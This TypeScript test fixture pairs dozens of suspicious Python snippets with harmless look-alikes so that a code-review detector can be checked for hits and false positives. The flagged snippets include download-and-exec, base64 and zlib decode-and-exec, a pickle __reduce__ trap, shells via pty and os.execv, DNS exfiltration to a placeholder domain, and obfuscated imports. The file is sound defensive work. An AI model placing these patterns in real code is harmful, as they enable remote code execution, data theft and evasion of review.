/** Known answers: code that a reviewer must see, and the ordinary code that it looks like. Written for this project. */
export interface Case {
  name: string;
  bad: string;
  twin: string;
}

const one = (name: string, bad: string, twin: string): Case => ({ name, bad, twin });

export const PYTHON_CASES: readonly Case[] = [
  one(
    'socket',
    'import socket\ns = socket.create_connection(("10.0.0.1", 443))\n',
    'socket_size = 12\nprint(socket_size)\n'
  ),
  one(
    'requests, renamed',
    'import requests as pd_tools\npd_tools.post(u, data=rows)\n',
    'import pandas as pd\nrequests = pd.read_csv("requests.csv")\n'
  ),
  one(
    'urllib, from',
    'from urllib import request\nrequest.urlopen(address)\n',
    'from urllib.parse import quote\nquote("a b")\n'
  ),
  one(
    'http server',
    'from http.server import HTTPServer\nHTTPServer(("", 80), None).serve_forever()\n',
    'from http import HTTPStatus\nprint(HTTPStatus.OK)\n'
  ),
  one(
    'smtp in a function',
    'def tell(rows):\n    import smtplib\n    smtplib.SMTP("mail").sendmail("a", "b", rows)\n',
    'def tell(rows):\n    import logging\n    logging.info("%d rows", len(rows))\n'
  ),
  one(
    'ftp',
    'import ftplib\nftplib.FTP("h").storbinary("STOR x", open("x", "rb"))\n',
    'import csv\ncsv.writer(open("x", "w")).writerow([1])\n'
  ),
  one(
    'paramiko',
    'import paramiko\nparamiko.SSHClient().connect("h")\n',
    'import parameters\nparameters.load()\n'
  ),
  one(
    'cloud storage',
    'import boto3\nboto3.client("s3").upload_file("a", "b", "c")\n',
    'import bottleneck\nbottleneck.nanmean([1.0])\n'
  ),
  one(
    'azure below a package',
    'from azure.storage.blob import BlobClient\n',
    'from azureml_notes import summary\n'
  ),
  one('browser', 'import webbrowser\nwebbrowser.open("file:///x")\n', 'browser = "none"\n'),
  one(
    'headless browser',
    'from selenium import webdriver\nwebdriver.Firefox()\n',
    'from sklearn import linear_model\nlinear_model.Ridge()\n'
  ),
  one(
    'dns',
    'import dns.resolver\ndns.resolver.resolve(chunk + ".example.org")\n',
    'dns = {"a": 1}\ndns["a"]\n'
  ),
  one(
    'chat bot',
    'import telegram\ntelegram.Bot(t).send_document(c, f)\n',
    'import telescope_data\ntelescope_data.load()\n'
  ),
  one(
    'asyncio connection',
    'import asyncio\nasync def go():\n    r, w = await asyncio.open_connection("h", 1)\n',
    'import asyncio\nasync def go():\n    await asyncio.sleep(1)\n'
  ),
  one(
    'conditional import',
    'try:\n    import httpx\nexcept ImportError:\n    httpx = None\n',
    'try:\n    import numba\nexcept ImportError:\n    numba = None\n'
  ),
  one('subprocess', 'import subprocess\nsubprocess.run(["whoami"])\n', 'subprocess_names = ["a"]\n'),
  one(
    'subprocess, aliased function',
    'from subprocess import check_output as co\nco("dir", shell=True)\n',
    'from statistics import mean as co\nco([1, 2])\n'
  ),
  one('os.system', 'import os\nos.system("powershell -c x")\n', 'import os\nos.path.join("a", "b")\n'),
  one(
    'os.popen by getattr',
    'import os\ngetattr(os, "po" + "pen")("id").read()\n',
    'import os\ngetattr(os, "sep")\n'
  ),
  one('os.exec', 'import os\nos.execv("/bin/sh", ["sh"])\n', 'import os\nos.environ.get("HOME")\n'),
  one('pty', 'import pty\npty.spawn("/bin/bash")\n', 'import pytest\npytest.main()\n'),
  one(
    'alias of a function',
    'import os\nrun = os.system\nrun("id")\n',
    'import os\nrun = os.getcwd\nrun()\n'
  ),
  one(
    'method table',
    'import os\ndoing = vars(os)["system"]\ndoing("id")\n',
    'table = vars(config)["rows"]\ntable.head()\n'
  ),
  one(
    'sys.modules',
    'import sys\nsys.modules["os"].system("id")\n',
    'import sys\nprint("os" in sys.modules)\n'
  ),
  one(
    'dynamic import of a constant',
    'm = __import__("soc" + "ket")\nm.socket()\n',
    'm = __import__("pandas")\nm.DataFrame()\n'
  ),
  one(
    'importlib of a constant',
    'import importlib\nimportlib.import_module("requests").get(u)\n',
    'import importlib\nimportlib.import_module("pandas")\n'
  ),
  one(
    'importlib of a changing name',
    'import importlib\nfor n in names:\n    importlib.import_module(n)\n',
    'for n in names:\n    print(n)\n'
  ),
  one('import by reversed name', '__import__("tekcos"[::-1])\n', 'print("tekcos"[::-1])\n'),
  one(
    'import by decoded name',
    'import base64\n__import__(base64.b64decode("c29ja2V0").decode())\n',
    'import base64\nprint(len("c29ja2V0"))\n'
  ),
  one(
    'import by chr',
    '__import__("".join([chr(111), chr(115)])).system("id")\n',
    'print("".join([chr(111), chr(115)]))\n'
  ),
  one(
    'import by rot13',
    'import codecs\n__import__(codecs.decode("fbpxrg", "rot13"))\n',
    'import codecs\ncodecs.open("x.txt", encoding="utf-8")\n'
  ),
  one('exec of a variable', 'exec(code)\n', 'cursor.execute(query)\n'),
  one('eval of input', 'x = eval(input())\n', 'df.eval("a + b")\n'),
  one('exec in other letters', 'ｅｘｅｃ(code)\n', 'café = 1\nprint(café)\n'),
  one(
    'exec through builtins',
    'import builtins\nbuiltins.exec(code)\n',
    'import builtins\nbuiltins.print("x")\n'
  ),
  one('exec through __builtins__', '__builtins__["ex" + "ec"](code)\n', 'settings["ex" + "ample"]\n'),
  one('exec by getattr', 'getattr(__builtins__, "eval")(code)\n', 'getattr(frame, "values")\n'),
  one('exec by another name', 'go = exec\ngo(code)\n', 'go = print\ngo("x")\n'),
  one('exec of a constant that connects', 'exec("import socket; socket.socket()")\n', 'exec("x = 1")\n'),
  one(
    'compile and exec',
    'exec(compile(source, "x", "exec"))\n',
    'import re\nre.compile("a+").match("aa")\n'
  ),
  one(
    'decode and run',
    'import base64\nexec(base64.b64decode(payload))\n',
    'import base64\nraw = base64.b64decode(payload)\nprint(len(raw))\n'
  ),
  one(
    'decompress and run',
    'import zlib\nexec(zlib.decompress(blob).decode())\n',
    'import zlib\nprint(len(zlib.decompress(blob)))\n'
  ),
  one('fromhex and run', 'exec(bytes.fromhex(h).decode())\n', 'print(bytes.fromhex("00ff"))\n'),
  one(
    'download and run',
    'import urllib.request\nexec(urllib.request.urlopen(u).read())\n',
    'exec_time = 3\nprint(exec_time)\n'
  ),
  one(
    'decode, name, run',
    'import base64\ncode = base64.b64decode(payload)\nexec(code)\n',
    'import base64\ncode = base64.b64decode(payload)\nprint(code)\n'
  ),
  one('marshal', 'import marshal\nexec(marshal.loads(b))\n', 'import math\nmath.sqrt(2)\n'),
  one(
    'code object',
    'import types\ntypes.FunctionType(types.CodeType(*parts), {})()\n',
    'import types\ntypes.SimpleNamespace(a=1)\n'
  ),
  one(
    'unpickle what was decoded',
    'import base64, pickle\npickle.loads(base64.b64decode(x))\n',
    'import pickle\nmodel = pickle.load(open("m.pkl", "rb"))\n'
  ),
  one(
    'pickle trap',
    'import os\nclass A:\n    def __reduce__(self):\n        return (os.system, ("id",))\n',
    'class A:\n    def __reduce__(self):\n        return (A, ())\n'
  ),
  one(
    'subclasses walk',
    '().__class__.__base__.__subclasses__()[40]("x").read()\n',
    'class B(Base):\n    pass\n'
  ),
  one('changing attribute of os', 'import os\ngetattr(os, name)("id")\n', 'getattr(model, name)\n'),
  one(
    'ctypes',
    'import ctypes\nctypes.CDLL("libc.so.6").system(b"id")\n',
    'import cycler\ncycler.cycler(color="rgb")\n'
  ),
  one(
    'registry',
    'import winreg\nwinreg.OpenKey(winreg.HKEY_CURRENT_USER, "x")\n',
    'import winsorize\nwinsorize.run()\n'
  ),
  one(
    'windows com',
    'import win32com.client\nwin32com.client.Dispatch("Outlook.Application")\n',
    'import windrose\nwindrose.plot()\n'
  ),
  one('clipboard library', 'import pyperclip\npyperclip.copy(text)\n', 'copy = text[:]\nprint(copy)\n'),
  one('pandas clipboard', 'df.to_clipboard()\n', 'df.to_csv("out.csv")\n'),
  one(
    'tkinter clipboard',
    'import tkinter\nroot = tkinter.Tk()\nroot.clipboard_append(text)\n',
    'rows.append(text)\n'
  ),
  one(
    'keyboard',
    'from pynput.keyboard import Controller\nController().type(text)\n',
    'from enum import Enum\nclass Key(Enum):\n    A = 1\n'
  ),
  one(
    'screen',
    'from PIL import ImageGrab\nImageGrab.grab().save("x.png")\n',
    'from PIL import Image\nImage.open("x.png")\n'
  ),
  one(
    'automation',
    'import pyautogui\npyautogui.write(text)\n',
    'import matplotlib.pyplot as plt\nplt.plot([1])\n'
  ),
  one(
    'encryption',
    'from cryptography.fernet import Fernet\nFernet(k).encrypt(rows)\n',
    'import hashlib\nhashlib.sha256(b"x").hexdigest()\n'
  ),
  one(
    'encryption, other',
    'from Crypto.Cipher import AES\nAES.new(k, 2)\n',
    'import secrets\nsecrets.token_hex(8)\n'
  ),
  one(
    'encrypted zip',
    'import pyzipper\npyzipper.AESZipFile("x.zip", "w")\n',
    'import zipfile\nzipfile.ZipFile("x.zip").namelist()\n'
  ),
  one(
    'steganography',
    'from stegano import lsb\nlsb.hide("a.png", "text").save("b.png")\n',
    'from scipy import stats\nstats.norm.pdf(0)\n'
  ),
  one(
    'watermark',
    'from imwatermark import WatermarkEncoder\n',
    'from skimage import io\nio.imread("a.png")\n'
  ),
  one('model attack', 'import foolbox\n', 'import folium\nfolium.Map()\n'),
  one(
    'shell in a notebook helper',
    'get_ipython().system("curl x")\n',
    'get_ipython().run_line_magic("matplotlib", "inline")\n'
  ),
];
